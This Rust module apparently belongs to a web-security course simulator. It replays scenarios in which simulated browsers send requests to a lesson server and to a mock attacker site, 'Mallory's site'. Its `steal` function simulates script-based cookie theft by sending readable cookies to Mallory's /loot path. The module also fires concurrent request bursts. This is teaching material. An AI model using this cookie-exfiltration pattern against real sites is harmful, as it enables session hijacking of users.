//! The requests of a scenario: to the lesson, and to Mallory's site.

use std::io;
use std::thread;

use rocket::http::Method;

use super::act::{Act, OtherOrigin, Sent};
use super::browser::Going;
use super::mallorys_site::MallorysSite;
use super::played::PlayedRequest;
use super::runner::ScenarioPlayer;
use super::step::Actor;
use crate::accounts::DEMO_USERS;
use crate::answer::is_own_path;
use crate::course::exchange::SessionName;

/// The origin of another site: a domain that can't exist (RFC 2606).
const ANOTHER_SITE: &str = "https://elsewhere.example";

/// The port of Mallory's site in the addresses that browsers send. The real one is any free port.
const MALLORYS_PORT: u16 = 9000;

impl ScenarioPlayer<'_> {
    /// The request to which the last answer redirects the browser, unless the scenario itself says
    /// that this browser goes there next. It comes from the same page as the one before it.
    pub(super) fn followed(
        &self,
        index: usize,
        sent: &Sent,
        requests: &[PlayedRequest],
    ) -> Option<Sent> {
        let step = &self.scenario.steps[index];
        let target = requests.last()?.answer.location.as_ref()?;
        let next = Sent {
            method: Method::Get,
            path: target.clone(),
            form: Vec::new(),
            from: sent.from,
            console: false,
            server: sent.server,
            script: false,
        };
        let mut steps = self.scenario.steps[index + 1..].iter();
        let said = steps.find(|later| later.at == step.at);
        let said = said.is_some_and(|said| {
            matches!(&said.act, Act::Send(it) if (it.method, &it.path) == (next.method, target))
        });
        (is_own_path(target) && !said).then_some(next)
    }

    /// Sends one request with the browser's cookies, and gives the browser those of the answer. So
    /// many others like it go off at the same time.
    pub(super) fn send(
        &mut self,
        at: Actor,
        sent: &Sent,
        others: u32,
    ) -> io::Result<PlayedRequest> {
        let mut sent = sent.clone();
        sent.path = self.named.filled(&sent.path);
        // Passwords are filled in here and nowhere else: `$alice` is all that a file or a
        // transcript has.
        for (_, value) in &mut sent.form {
            let mut users = DEMO_USERS.iter();
            if let Some(user) = users.find(|user| value.strip_prefix('$') == Some(user.userid)) {
                user.password.clone_into(value);
            }
        }
        let session = self.session_cookie(at);
        let browser = self.browsers.entry(at).or_default();
        let neighbour = format!(
            "http://{}:{MALLORYS_PORT}",
            self.scenario.mallorys_host("/")
        );
        let going = Going {
            method: sent.method,
            host: self.server.host(),
            path: &sent.path,
            from: sent.from.map(|from| match from {
                OtherOrigin::AnotherSite => ANOTHER_SITE,
                OtherOrigin::Neighbour => &neighbour,
            }),
            tls: false,
        };
        let now = self.server.now();
        let cookie = browser.header(going, now);
        let port = self.server.port();
        let send = || {
            let (form, cookie) = (&sent.form, cookie.as_deref());
            self.wire.send(port, going, form, cookie, self.language)
        };
        let answer = at_once(others, send)?;
        for header in &answer.set_cookies {
            browser.set(header, going, now);
        }
        if answer.runs_a_script() {
            self.scripted.insert(at);
        } else {
            self.scripted.remove(&at);
        }
        // The server can't name a value that was changed by hand, so the record gets its name here.
        let mut record = self.server.exchange()?;
        if let Some(name) = session.and_then(|(value, _)| self.changed.get(&value)) {
            for cookie in record.request.session_cookies() {
                cookie.session = Some(SessionName {
                    name: name.clone(),
                    locker: String::new(),
                });
            }
        }
        Ok(PlayedRequest {
            from: sent.from,
            answer,
            record: Some(record),
        })
    }

    /// Sends one request to Mallory's site, from a page of hers: with the cookies that a browser
    /// sends to a neighbour.
    pub(super) fn send_to_mallory(&mut self, at: Actor, sent: &Sent) -> io::Result<PlayedRequest> {
        let host = self.scenario.mallorys_host(&sent.path);
        let going = Going {
            method: sent.method,
            host: &host,
            path: &sent.path,
            from: None,
            tls: false,
        };
        let now = self.server.now();
        let browser = self.browsers.entry(at).or_default();
        let cookie = browser.header(going, now);
        let port = MallorysSite::port(&mut self.mallory, self.server.port())?;
        let cookie = cookie.as_deref();
        let answer = self
            .wire
            .send(port, going, &sent.form, cookie, self.language)?;
        for header in &answer.set_cookies {
            browser.set(header, going, now);
        }
        Ok(PlayedRequest {
            from: Some(OtherOrigin::Neighbour),
            answer,
            record: None,
        })
    }

    /// Sends Mallory the cookies that a script can read in the page that this browser shows. Without
    /// such a script nothing is sent.
    pub(super) fn steal(&mut self, at: Actor) -> io::Result<()> {
        if !self.scripted.contains(&at) {
            return Ok(());
        }
        let page = Going {
            method: Method::Get,
            host: self.server.host(),
            path: "/",
            from: None,
            tls: false,
        };
        let now = self.server.now();
        let read = self
            .browsers
            .entry(at)
            .or_default()
            .seen_by_scripts(page, now);
        let path = format!("/loot?{}", read.unwrap_or_default().replace(' ', "%20"));
        let origin = self.server.origin();
        let host = self.scenario.mallorys_host("/loot");
        let going = Going {
            host: &host,
            path: &path,
            from: Some(&origin),
            ..page
        };
        let port = MallorysSite::port(&mut self.mallory, self.server.port())?;
        // Without cookies: a script's request to another origin has none by default.
        let answer = self.wire.send(port, going, &[], None, self.language);
        answer.map(drop)
    }
}

/// Sends a request, and others like it at the same time. The answer is that of the last one
/// to be sent.
fn at_once<T: Send>(others: u32, send: impl Fn() -> io::Result<T> + Sync) -> io::Result<T> {
    thread::scope(|scope| {
        let others: Vec<_> = (0..others).map(|_| scope.spawn(&send)).collect();
        let answer = send();
        let arrived = others.into_iter().try_for_each(|other| {
            let other = other
                .join()
                .map_err(|_| io::Error::other("a thread has panicked"))?;
            other.map(drop)
        });
        arrived.and(answer)
    })
}
